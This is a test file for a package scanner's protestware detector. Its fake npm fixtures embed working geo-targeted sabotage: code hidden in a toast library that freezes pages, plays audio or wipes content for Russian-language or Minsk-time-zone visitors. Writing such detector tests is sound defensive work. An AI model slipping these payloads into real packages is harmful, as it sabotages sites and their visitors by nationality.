import { protestware } from '../../src/detectors/protestware/index.js';
import type { PackageFixture } from '../support/package-fixture.js';
import { testDetector } from '../support/test-detector.js';

const pkg = (name: string, files: Record<string, string>): PackageFixture => ({
  name,
  publisher: { name: 'someone', email: 'someone@example.com' },
  versions: [{ version: '1.0.0', publishedAt: '2025-10-01T00:00:00.000Z', manifest: { description: 'x', main: 'dist/index.js' }, files }],
});

/** A toast library with SweetAlert2's 2022 payload: Russian-language visitors of .ru sites get a frozen page and the anthem. */
const toast = (check: string, act: string) => `export function show(message) { const el = document.createElement('div'); el.textContent = message; document.body.appendChild(el); }
function where() {
  try { return { lang: (navigator.language || '').toLowerCase(), host: location.hostname, zone: Intl.DateTimeFormat().resolvedOptions().timeZone }; } catch (e) { return null; }
}
function settle() {
  const e = where();
  if (!e || ${check}) return;
  setTimeout(function () {
    ${act}
  }, 15000);
}
settle();
`;

testDetector(protestware, {
  now: new Date('2025-11-01'),
  invalid: [
    {
      name: 'Russian-language visitors of .ru sites: every click blocked, audio played over the page (SweetAlert2 / @link-loom/ui-sdk)',
      fixture: pkg('toast-kit', { 'dist/index.js': toast("e.lang.indexOf('ru') !== 0 || !/\\.(ru|su|by|xn--p1ai)$/i.test(e.host)", "document.body.style.pointerEvents = 'none';\n    new Audio('https://cdn.toast-kit.dev/a.mp3').play();") }),
      messageIds: ['sabotage'],
    },
    {
      name: 'a time zone of one country: the page replaced',
      fixture: pkg('toast-kit', { 'dist/index.js': toast("e.zone !== 'Europe/Minsk'", "document.body.innerHTML = '<h1>No</h1>';") }),
      messageIds: ['sabotage'],
    },
    {
      name: 'a list of country languages checked in a minified bundle',
      fixture: pkg('toast-kit', { 'dist/index.js': `var l=navigator.language.slice(0,2);if(["ru","be"].includes(l)){var s=document.createElement("style");s.textContent="*{pointer-events:none!important}";document.head.appendChild(s)}` }),
      messageIds: ['sabotage'],
    },
  ],
  valid: [
    {
      name: 'a translation picked by the browser language, and a modal that disables pointer events elsewhere in the file',
      fixture: pkg('i18n-modal', { 'dist/index.js': `const dict = { ru: 'Закрыть', de: 'Schließen' };\nexport function label() { const l = navigator.language.slice(0, 2); return l === 'ru' ? dict.ru : l === 'de' ? dict.de : 'Close'; }\n${'// filler\n'.repeat(200)}export function open() { document.body.style.pointerEvents = 'none'; }\n` }),
    },
    {
      name: 'English, the default every locale check falls back to; a page rendered in the visitor’s language',
      fixture: pkg('i18n-page', { 'dist/index.js': "if (navigator.language.indexOf('en') !== 0) { document.body.innerHTML = 'Loading'; }\nif (navigator.language === 'de') document.body.innerHTML = render(translate(page, 'de'));\n" }),
    },
    {
      name: 'a short code compared that names no place, near a read of the language (mathlive: matrix kinds)',
      fixture: pkg('math-editor', { 'dist/index.js': 'var L=navigator.language;function m(t){if(t.kind==="pm"||t.env!=="bm"){document.body.innerHTML=\'<span class="x">\'+t.rows+"</span>"}}\n' }),
    },
    {
      name: 'a CLI choosing a mirror for Chinese users and writing its config (Node, not the page)',
      fixture: pkg('mirror-cli', { 'dist/index.js': "const fs = require('fs');\nif ((process.env.LANG || '').startsWith('zh')) fs.writeFileSync('.npmrc', 'registry=https://registry.npmmirror.com');\nprocess.exit(0);\n" }),
    },
    {
      name: 'the same sabotage in the package’s own tests',
      fixture: pkg('toast-kit', { 'dist/index.js': 'export {};\n', 'test/protest.test.js': toast("e.zone !== 'Europe/Minsk'", "document.body.innerHTML = '';") }),
    },
  ],
});
